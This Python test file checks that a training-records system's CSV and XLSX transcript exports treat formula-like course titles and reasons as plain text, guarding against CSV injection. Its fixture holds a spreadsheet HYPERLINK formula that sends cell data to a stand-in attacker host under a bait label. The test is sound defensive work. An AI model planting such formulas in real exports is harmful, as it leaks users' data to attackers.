"""What a trainee downloads is data, never formulas: course titles and reasons that look like formulas
are text in the transcript's CSV and XLSX (OWASP "CSV injection")."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Final

from openpyxl import load_workbook

from domain import clock
from tests.api.conftest import Api, Tokens
from tests.api.training.fixtures import Training, before_a_course_held, enroll, post_and_publish, training
from tests.api.training.test_roster_import import gbk_csv, upload

__all__ = ["training"]

HYPERLINK: Final = '=HYPERLINK("http://evil.example/?d="&A1,"点击领取培训补贴")'
REASON: Final = "+8学时 外省培训补录"
ADJUST: Final = """
mutation A($input: AdjustTrainingHoursInput!) {
  adjustTrainingHours(input: $input) { entry { id } userErrors { code field message } }
}
"""


async def a_hostile_ledger(api: Api, training: Training, tokens: Tokens) -> None:
    """李娜 credited for a course titled like a formula, and an adjustment whose reason starts with +."""
    with before_a_course_held(days_ago=20):
        course_id = await post_and_publish(api, training.provider, title=HYPERLINK)
        await enroll(api, training.li, course_id)
    today = clock.today().isoformat()
    roster = gbk_csv([f"{training.li_id_card},李娜,16,{today}"])
    credited = await upload(api, training.provider, course_id, roster, "r.csv")
    assert credited["report"]["credited"] == 1
    adjustment = {
        "personId": training.li_person,
        "hours": "8",
        "hourCategory": "PRACTICE_SKILLS",
        "reason": REASON,
        "occurredOn": today,
        "idempotencyKey": "adj-plus",
    }
    adjusted = await api.data(ADJUST, {"input": adjustment}, token=tokens.chuxiong)
    assert adjusted["adjustTrainingHours"]["userErrors"] == []


async def test_formula_like_text_is_plain_text_in_the_transcript_csv(
    api: Api, training: Training, tokens: Tokens
) -> None:
    await a_hostile_ledger(api, training, tokens)
    response = await api.client.get(
        "/exports/transcript.csv", headers={"Authorization": f"Bearer {training.li}"}
    )
    text = response.content.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    assert f",'{REASON}" in text
    assert ",=HYPERLINK" not in text
    assert ',"=HYPERLINK' not in text
    assert f",{REASON}" not in text


async def test_formula_like_text_is_a_string_cell_in_the_transcript_xlsx_and_dates_are_dates(
    api: Api, training: Training, tokens: Tokens
) -> None:
    await a_hostile_ledger(api, training, tokens)
    response = await api.client.get(
        "/exports/transcript.xlsx", headers={"Authorization": f"Bearer {training.li}"}
    )
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = {row[4].value or row[5].value: row for row in sheet.iter_rows(min_row=3, max_row=4)}
    course, adjustment = rows[HYPERLINK], rows[REASON]
    assert (course[4].data_type, adjustment[5].data_type) == ("s", "s")
    day = clock.today()
    assert course[0].number_format == "yyyy-mm-dd"
    assert course[0].value == datetime(day.year, day.month, day.day)  # noqa: DTZ001 - Excel date cells are naive
    assert (course[2].data_type, Decimal(str(course[2].value))) == ("n", Decimal(16))
